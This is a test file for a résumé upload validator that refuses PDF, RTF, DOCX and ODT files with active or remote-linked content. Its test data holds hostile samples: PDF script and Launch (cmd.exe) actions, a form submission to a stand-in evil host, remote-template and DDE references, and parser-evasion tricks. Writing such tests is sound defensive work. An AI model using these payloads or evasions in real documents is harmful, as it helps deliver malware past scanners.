import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { processorTimeOf } from '../testing/processor-time';
import { docxWith, odtWith, pdfOf, pdfStream, samplePdf, zipOf } from '../testing/sample-documents';
import { fileFaults } from './document-kinds';
import { documentVerdict } from './document-verdict';
import { findPdfNames } from './pdf-names';

const catalog = '<</Type/Catalog/Pages 2 0 R>>';
const pages = '<</Type/Pages/Kids[]/Count 0>>';
const script = '<</S/JavaScript/JS(app.alert(1))>>';
/** An object stream with one object, as word processors write it. */
const packed = (object: string, entries = '/Type/ObjStm/N 1/First 4') => pdfStream(`3 0 ${object}`, entries);
/** The same with another line ending after `stream`. */
const packedBehind = (end: string) =>
  Buffer.from(packed(script).toString('latin1').replace('stream\n', `stream${end}`), 'latin1');
const browser = readFileSync(join(import.meta.dirname, 'samples/browser.pdf'));
const fault = { active: { fault: fileFaults.active }, incomplete: { fault: fileFaults.incomplete } };

describe('a PDF is accepted', () => {
  it.each([
    ['from a browser, with links and words such as /JavaScript', browser],
    ['of the smallest kind', samplePdf],
    ['with packed objects', pdfOf([catalog, pages, packed('<</Type/Font/BaseFont/Helvetica>>')])],
    ['that opens at a place of its own', pdfOf(['<</Type/Catalog/OpenAction[3 0 R/Fit]>>'])],
    [
      'with a form to fill in',
      pdfOf(['<</Type/Catalog/AcroForm<</Fields[2 0 R]>>>>', '<</FT/Tx/T(Name)/V(Ada)>>']),
    ],
    ['with links', pdfOf([catalog, '<</S/URI/URI(https://example.com/JS)>>'])],
    ['whose texts speak of it', pdfOf([catalog, '<</Title(Lead \\(/JS\\) of /JavaScript (/Launch))>>'])],
    [
      'whose pages speak of it',
      pdfOf([catalog, '<</Length 30>>\nstream\nBT (HTML/JavaScript) Tj ET\nendstream']),
    ],
    ['with many objects that are not packed', pdfOf([catalog, '/ObjStm stream\n'.repeat(9_000)])],
    ['with the words in a comment', pdfOf([`${catalog}\n%/JS /JavaScript\n`])],
    ['with packed data of all sorts', pdfOf([catalog, pdfStream(randomBytes(3_000_000))])],
    ['with a page after its end', Buffer.concat([samplePdf, Buffer.alloc(500, '\n')])],
  ])('%s', async (_what, bytes) => {
    expect(await documentVerdict(bytes, 'cv.pdf')).toEqual({ kind: 'pdf' });
  });
});

describe('a PDF is refused', () => {
  it.each([
    ['with a script', pdfOf([catalog, script])],
    ['with a script that runs when it is opened', pdfOf([`<</Type/Catalog/OpenAction ${script}>>`])],
    ['with names written by numbers', pdfOf([catalog, '<</S/J#61va#53cript/#4a#53(x)>>'])],
    ['with a script in a packed object', pdfOf([catalog, packed(script)])],
    ['with packing named by numbers', pdfOf([catalog, packed(script, '/Type/Obj#53tm')])],
    ['with a script behind an open text', pdfOf([catalog, 'null ( null', script])],
    [
      'with an object within data',
      pdfOf([catalog, `<</Filter/X>>stream\n9 0 obj${script}endobj\nendstream`]),
    ],
    ['with data behind another end of the line', pdfOf([catalog, packedBehind('\r')])],
    ['with blanks and more behind its word', pdfOf([catalog, packedBehind(' \t%x\r\n')])],
    ['with an object far behind its number', pdfOf([catalog, `(\n6${' '.repeat(99)}0\0\0obj ${script}`])],
    ['with a comment behind its number', pdfOf([catalog, `(\n6%obj\n0%\n\n%x obj\n obj${script}`])],
    [
      'with a number of an object within packed data',
      pdfOf([catalog, Buffer.concat(storedAround(' 1 0 obj '))]),
    ],
    ['with an open text in front of a packed object', pdfOf([catalog, twoPacked('(', script)])],
    [
      'with a form in XFA, which has scripts',
      pdfOf([
        '<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>',
        pdfStream('<xdp><script>app.alert(1)</script></xdp>'),
      ]),
    ],
    [
      'that opens a file of another computer',
      pdfOf(['<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)>>>>']),
    ],
    ['that opens a file within', pdfOf([catalog, '<</S/GoToE/T<</R/C/N(x.pdf)>>>>'])],
    ['that sends a form', pdfOf([catalog, '<</S/SubmitForm/F(https://evil.example/)>>'])],
    ['that takes data in', pdfOf([catalog, '<</S/ImportData/F(x.fdf)>>'])],
    ['that starts a program', pdfOf([catalog, '<</S/Launch/F(cmd.exe)>>'])],
    ['with a file in it', pdfOf(['<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>', pages])],
    ['with a file’s data in it', pdfOf([catalog, pdfStream('MZ', '/Type/EmbeddedFile')])],
  ])('%s', async (_what, bytes) => {
    expect(await documentVerdict(bytes, 'cv.pdf')).toEqual(fault.active);
  });

  it.each([
    ['cut in half', browser.subarray(0, browser.length / 2)],
    ['with an archive behind it', Buffer.concat([samplePdf, zipOf([{ name: 'a.exe', bytes: 'MZ' }])])],
    [
      'with a large one',
      Buffer.concat([browser, zipOf([{ name: 'a', bytes: randomBytes(9_000) }]), samplePdf]),
    ],
    ['packed in another way', pdfOf([catalog, '<</Type/ObjStm/Filter/LZWDecode>>stream\nx\nendstream'])],
    ['with packed objects that are cut off', pdfOf([catalog, cutPacked()])],
    ['with the end of data within them', pdfOf([catalog, Buffer.concat(storedAround('\nendstream '))])],
    [
      'with two places where packed objects begin',
      pdfOf([catalog, packed(script, '/ObjStm/First 4/First 9')]),
    ],
    ['with a list of its own kind', pdfOf([catalog, packed(script, '/ObjStm/First 12')])],
    // Far past the end, but near enough that a search that goes there would finish.
    ['with a place behind packed objects', pdfOf([catalog, packed('4 99999999 ', '/ObjStm/First 15')])],
    ['with all packed objects behind their end', pdfOf([catalog, packed('', '/ObjStm/First 99999999')])],
    ['with data in packed objects', pdfOf([catalog, packed('/ObjStm/Filter stream\n'.repeat(9_000))])],
    ['with packed objects of nothing', pdfOf([catalog, packed('').toString('latin1').repeat(9_000)])],
    ['packed to much more than a résumé holds', pdfOf([catalog, packed(' '.repeat(30_000_000))])],
  ])('%s', async (_what, bytes) => {
    expect(await documentVerdict(bytes, 'cv.pdf')).toEqual(fault.incomplete);
  });

  it.each(['0obj', '%x\n obj', '0obj/Filter stream ', '0obj(', '6 \0', '/First 1 '])(
    'within a time proportional to its size: %j',
    (piece) => {
      const time = processorTimeOf(() => findPdfNames(Buffer.alloc(4_000_000, piece), ['JS']));
      // Usually a fifth of a second; it would be minutes if characters were examined repeatedly.
      expect(time).toBeLessThan(4_000);
    },
  );

  it('findPdfNames keeps only the names asked for and those of object streams', () => {
    const names = Array.from({ length: 10_000 }, (_, at) => `/N${at}`).join('');
    expect(
      [...findPdfNames(pdfOf([names, '/J#53 /Filter', packed('/Launch')]), ['JS', 'Launch'])].sort(),
    ).toEqual(['Filter', 'First', 'FlateDecode', 'JS', 'Launch', 'ObjStm']);
  });

  it('whose packed objects cannot be read without a password', async () => {
    const secret = Buffer.concat([
      Buffer.from('<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
      randomBytes(99),
    ]);
    const bytes = pdfOf([catalog, Buffer.concat([secret, Buffer.from('\nendstream')])], '/Encrypt 9 0 R');
    expect(await documentVerdict(bytes, 'cv.pdf')).toEqual({ fault: fileFaults.locked });
  });
});

/** An object stream of two objects. */
function twoPacked(one: string, other: string): Buffer {
  const list = `3 0 4 ${one.length} `;
  return pdfStream(`${list}${one}${other}`, `/Type/ObjStm/N 2/First ${list.length}`);
}

/** An object stream in whose data some words, stored uncompressed, precede the script. */
function storedAround(words: string): Buffer[] {
  const packer = deflateSync(words, { level: 0 });
  // Its last block is marked as not the last, and its checksum is left out.
  const stored = Buffer.from(packer.subarray(0, -4));
  stored[2] = 0;
  const text = `${words}${script}`;
  const rest = deflateRawSync(script);
  const sum = deflateSync(text).subarray(-4);
  const head = Buffer.from('<</Type/ObjStm/First 0/Filter/FlateDecode>>stream\n');
  return [head, stored, rest, sum, Buffer.from('\nendstream')];
}

function cutPacked(): Buffer {
  const data = deflateSync(`3 0 ${script}${' '.repeat(900)}`);
  const whole = Buffer.concat([data.subarray(0, -6), Buffer.from('\nendstream')]);
  return Buffer.concat([Buffer.from('<</Type/ObjStm/Filter/FlateDecode>>stream\n'), whole]);
}

describe('rich text', () => {
  it.each([
    '\\objdata0105',
    '\\objdata1 0105',
    '\\objdata 0 1 0 5',
    '\\*\\objdata\n0105',
    '\\object',
    '\\object1\\objemb',
    '\\objupdate',
    '\\objautlink',
    '\\objocx',
    '\\\\\\objdata',
    '\\*\\template https://evil.example/x.dotm',
    '\\*\\template \\\\\\\\evil\\\\x.dotm',
  ])('is refused for %j', async (word) => {
    const verdict = await documentVerdict(Buffer.from(`{\\rtf1{${word}}}`), 'cv.rtf');
    expect(verdict).toEqual({ fault: word.includes('template') ? fileFaults.linked : fileFaults.macros });
  });

  it.each(['\\\\objdata 1', 'object', '\\par Objects', '\\*\\template C:\\\\Users\\\\a\\\\cv.dotx', "\\'e9"])(
    'is accepted with %j',
    async (word) => {
      const bytes = Buffer.from(`{\\rtf1\\ansi{${word}} text}`);
      expect(await documentVerdict(bytes, 'cv.rtf')).toEqual({ kind: 'rtf' });
    },
  );
});

const kindOf = (kind: string) =>
  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
const rels = (kind: string, target: string, mode = 'TargetMode="External"') => ({
  name: 'word/_rels/document.xml.rels',
  bytes: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${kindOf(kind)}" Target="${target}" ${mode}/></Relationships>`,
});

/** An external template after something that begins like an element but is not one. */
const behind = (other: string) => {
  const { name, bytes } = rels('attachedTemplate', 'http://evil');
  return { name, bytes: bytes.replace('<Relationship ', `${other}<Relationship `) };
};

const prefixed = (element: string) => {
  const { name, bytes } = rels('attachedTemplate', 'http://evil');
  return { name, bytes: bytes.replace('<Relationship ', `<${element} `) };
};

describe('an archive', () => {
  it.each([
    ['a link', rels('hyperlink', 'https://example.com/')],
    ['a link to a mail', rels('hyperlink', 'mailto:a@example.com')],
    [
      'the template of its author',
      rels('attachedTemplate', 'file:///C:\\Users\\a\\Templates\\Modern%20resume.dotx'),
    ],
    ['parts of its own', rels('styles', 'styles.xml', '')],
    ['an internal sheet', rels('package', '../embeddings/sheet.xlsx', '')],
    ['words about it', { name: 'word/a.xml', bytes: '<w:t>&lt;!DOCTYPE html&gt;</w:t>' }],
  ])('is accepted with %s', async (_what, part) => {
    expect(await documentVerdict(docxWith(part), 'cv.docx')).toEqual({ kind: 'docx' });
  });

  const doctype = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>';
  it.each([
    ['a document type', { name: 'word/settings.xml', bytes: doctype }],
    [
      'one far behind',
      { name: 'docProps/core.xml', bytes: `<?xml version="1.0"?>${' '.repeat(300_000)}<!DOCTYPE x><x/>` },
    ],
    ['one in UTF-16', { name: 'word/settings.xml', bytes: Buffer.from(`\ufeff${doctype}`, 'utf16le') }],
    ['a foreign template', rels('attachedTemplate', 'https://evil.example/x.dotm')],
    ['a template on a foreign disk', rels('attachedTemplate', 'file://evil/share/x.dotm')],
    ['one behind two slashes', rels('attachedTemplate', '\\\\evil\\x.dotm')],
    ['one in numbers', rels('attachedTemplate', 'http://evil', 'TargetMode="&#x45;xternal"')],
    ['one in other quotes', rels('attachedTemplate', 'http://evil', "TargetMode = 'External'")],
    ['a foreign object', rels('oleObject', 'https://evil.example/x')],
    ['a foreign frame', rels('frame', 'https://evil.example/x')],
    ['one behind a bracket in a value', rels('attachedTemplate', 'http://evil/?a>b')],
    [
      'one behind a number for a quotation mark',
      rels('attachedTemplate', 'http://evil', 'x="&#34;" TargetMode="External"'),
    ],
    [
      'one with another mode of another kind',
      rels('attachedTemplate', 'http://evil', 'TargetMode="External" x:TargetMode="Internal"'),
    ],
    ['one behind a comment with a quotation mark', behind('<!-- <Relationship " -->')],
    ['one behind an instruction with one', behind('<?x <Relationship " ?>')],
    ['one behind plain text with one', behind('<![CDATA[<Relationship "]]>')],
    ['one with a long prefix', prefixed('a-b.c:Relationship')],
    ['a foreign picture on a disk', rels('image', 'file://evil/share/x.png')],
  ])('that may load content from outside is refused: %s', async (_what, part) => {
    expect(await documentVerdict(docxWith(part), 'cv.docx')).toEqual({ fault: fileFaults.linked });
  });

  it.each([
    ['macros under another name', docxWith(rels('vbaProject', 'other.bin', '')), 'cv.docx'],
    ['an embedded program', docxWith({ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }), 'cv.docx'],
    ['a macro document in it', docxWith({ name: 'word/embeddings/a.docm', bytes: 'x' }), 'cv.docx'],
    ['an old sheet in it', docxWith({ name: 'word/embeddings/b.xls', bytes: 'x' }), 'cv.docx'],
    ['an embedded document', docxWith(rels('package', 'media/a.docm', '')), 'cv.docx'],
    ['an embedded object', docxWith(rels('oleObject', 'media/a.png', '')), 'cv.docx'],
    [
      'a document of another kind',
      docxWith(rels('aFChunk', 'a.rtf', ''), { name: 'word/a.rtf', bytes: '{\\rtf1{\\object\\objdata 01}}' }),
      'cv.docx',
    ],
    ['an object', odtWith({ name: 'Object 1', bytes: 'x' }), 'cv.odt'],
    [
      'an object under another name',
      odtWith({ name: 'a.xml', bytes: '<draw:object-ole xlink:href="./x"/>' }),
      'cv.odt',
    ],
    [
      'data of another program',
      odtWith({ name: 'a.xml', bytes: '<office:dde-source office:dde-application="cmd"/>' }),
      'cv.odt',
    ],
    ['a control', docxWith({ name: 'word/activeX/activeX1.bin', bytes: 'x' }), 'cv.docx'],
    ['scripts', odtWith({ name: 'Scripts/python/x.py', bytes: 'x' }), 'cv.odt'],
    [
      'something that runs',
      odtWith({ name: 'a.xml', bytes: '<script:event-listener script:event-name="x"/>' }),
      'cv.odt',
    ],
  ])('that may have active content is refused: %s', async (_what, bytes, name) => {
    expect(await documentVerdict(bytes, name)).toEqual({ fault: fileFaults.macros });
  });

  it('is refused if its relationships are in UTF-16', async () => {
    const { name, bytes } = rels('styles', 'styles.xml', '');
    const verdict = await documentVerdict(
      docxWith({ name, bytes: Buffer.from(bytes, 'utf16le') }),
      'cv.docx',
    );
    expect(verdict).toEqual({ fault: fileFaults.archive });
  });

  it('is accepted with a chart: a sheet in a DOCX, or an XML object and a picture in an ODT', async () => {
    const sheet = { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', bytes: 'x' };
    const folder = { name: 'word/embeddings/', bytes: '' };
    expect(await documentVerdict(docxWith(folder, sheet), 'cv.docx')).toEqual({ kind: 'docx' });
    const names = ['Object 1/', 'Object 1/content.xml', 'ObjectReplacements/Object 1'];
    const parts = names.map((name) => ({ name, bytes: '' }));
    expect(await documentVerdict(odtWith(...parts), 'cv.odt')).toEqual({ kind: 'odt' });
  });

  it('from an old OpenOffice is accepted despite the document type in its manifest', async () => {
    const list = {
      name: 'META-INF/manifest.xml',
      bytes: '<!DOCTYPE manifest:manifest PUBLIC "x" "Manifest.dtd"><a/>',
    };
    const empty = { name: 'settings.xml', bytes: '<office:scripts/>' };
    expect(await documentVerdict(odtWith(list, empty), 'cv.odt')).toEqual({ kind: 'odt' });
  });
});
